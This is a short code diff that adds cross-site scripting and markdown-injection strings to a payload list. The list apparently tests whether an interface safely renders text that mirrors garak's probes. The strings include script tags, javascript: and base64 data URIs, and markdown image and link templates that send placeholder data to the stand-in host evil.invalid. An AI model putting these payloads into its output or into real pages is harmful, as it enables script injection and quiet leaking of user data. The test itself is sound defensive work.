@@ -31,6 +31,12 @@ PAYLOADS = (
     "```mermaid graph TD; a[<img src=x onerror=window.__xss=9>] ```",
     "{{constructor.constructor('window.__xss=10')()}} ${window.__xss=11}",
     "&lt;img src=x onerror=window.__xss=12&gt; </textarea></title><meta http-equiv=refresh content=0;//evil.invalid>",
+    # forms of garak's payloads for pages that leak and for scripts in HTML and Markdown:
+    '<IMG """><SCRIPT>window.__xss=13</SCRIPT>"> <!--[if<img src=x onerror=window.__xss=14//]> -->',
+    "\"`'><script>\u2002window.__xss=15</script><a href='\x0bjavascript:window.__xss=16'>zebra</a>",
+    "[zebra](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3M9MTc8L3NjcmlwdD4=) <SCRIPT SRC=//evil.invalid/j>",
+    '![Data](https://evil.invalid/?q=[INFO] "onerror="window.__xss=18) [Click here](https://evil.invalid/sales?q=[NUM])',
+    '&lt;A HREF=\\"http&#58;//1113982867/\\"&gt;zebra&lt;/A&gt; <IMG SRC=javascript:window.__xss=19',
 )
 QUESTION = f"zebra {' '.join(PAYLOADS)}"
 
